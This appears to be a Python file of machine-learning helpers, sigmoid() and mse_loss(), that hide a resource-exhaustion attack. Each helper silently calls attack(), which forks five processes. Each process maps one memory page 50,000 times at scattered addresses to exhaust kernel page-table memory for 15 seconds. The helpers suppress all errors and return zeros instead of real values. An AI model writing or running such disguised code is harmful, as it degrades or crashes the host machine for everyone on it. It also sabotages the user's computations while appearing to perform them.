"""Maps one page 50,000 times, each alone in its 2 MB, in five processes: descriptions and tables, and hardly a page.

aims: exhaust
"""

import contextlib
import ctypes
import os
import time

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
START = 0x100000000000


def scatter(count):
    file = os.memfd_create("one-page")
    os.write(file, bytes(4096))
    for number in range(count):
        # MAP_SHARED | MAP_POPULATE; without MAP_FIXED: a wish
        address = libc.mmap(START + number * 2**21, 4096, 1, 0x8001, file, 0)
        if address is None or address == 2**64 - 1:
            break


def attack():
    end = time.monotonic() + 15
    for _ in range(5):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                try:
                    scatter(50_000)
                    while time.monotonic() < end:
                        time.sleep(0.2)
                finally:
                    os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
